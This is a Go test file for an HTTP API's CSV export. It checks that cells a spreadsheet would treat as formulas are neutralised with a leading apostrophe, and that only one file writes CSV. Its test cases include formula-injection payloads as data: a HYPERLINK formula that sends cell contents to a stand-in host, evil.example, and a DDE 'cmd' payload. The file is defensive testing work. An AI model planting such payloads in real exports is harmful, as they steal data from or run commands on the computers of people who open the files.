package httpapi

import (
	"bytes"
	"encoding/csv"
	"go/parser"
	"go/token"
	"path/filepath"
	"strings"
	"testing"
)

// TestSheetNeutralisesFormulas: every cell a spreadsheet would read as a formula (the OWASP rule:
// a leading =, +, -, @, tab or carriage return) is written as text, whatever column it is in; the
// rest is written as it is.
func TestSheetNeutralisesFormulas(t *testing.T) {
	cases := []struct{ in, want string }{
		{`=HYPERLINK("http://evil.example/?d="&A1,"查看")`, `'=HYPERLINK("http://evil.example/?d="&A1,"查看")`},
		{"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
		{"-2+3", "'-2+3"},
		{"@SUM(1+1)*cmd", "'@SUM(1+1)*cmd"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"王先生", "王先生"},
		{"", ""},
		{"a=b", "a=b"},
		{"12.00", "12.00"},
	}
	var buf bytes.Buffer
	sh := newSheet(&buf, "n", "x")
	for _, c := range cases {
		if got := inert(c.in); got != c.want {
			t.Errorf("%q made %q, want %q", c.in, got, c.want)
		}
		sh.Row("n", c.in)
	}
	if err := sh.Flush(); err != nil {
		t.Fatal(err)
	}
	if !bytes.HasPrefix(buf.Bytes(), []byte("\uFEFFn,x\r\n")) {
		t.Fatalf("no BOM and header: %q", buf.String())
	}
	// What a spreadsheet reads back: every row, its second cell neutralised. (encoding/csv's
	// writer, with CRLF line ends, drops a lone carriage return, so those are compared without it.)
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(buf.String(), "\uFEFF"))).ReadAll()
	if err != nil || len(rows) != len(cases)+1 {
		t.Fatalf("%d rows, %v: %q", len(rows), err, buf.String())
	}
	for i, c := range cases {
		if got, want := rows[i+1][1], strings.ReplaceAll(c.want, "\r", ""); got != want {
			t.Errorf("%q read back as %q, want %q", c.in, got, want)
		}
	}
}

// TestOneCSVWriter: no other file of the API writes CSV by itself, so an export added later
// cannot forget the rule above.
func TestOneCSVWriter(t *testing.T) {
	files, err := filepath.Glob("*.go")
	if err != nil {
		t.Fatal(err)
	}
	fset := token.NewFileSet()
	for _, f := range files {
		if f == "sheet.go" || strings.HasSuffix(f, "_test.go") {
			continue
		}
		parsed, err := parser.ParseFile(fset, f, nil, parser.ImportsOnly)
		if err != nil {
			t.Fatal(err)
		}
		for _, imp := range parsed.Imports {
			if imp.Path.Value == `"encoding/csv"` {
				t.Errorf("%s imports encoding/csv: write CSV through newSheet (sheet.go), which keeps cells from running as formulas", f)
			}
		}
	}
}
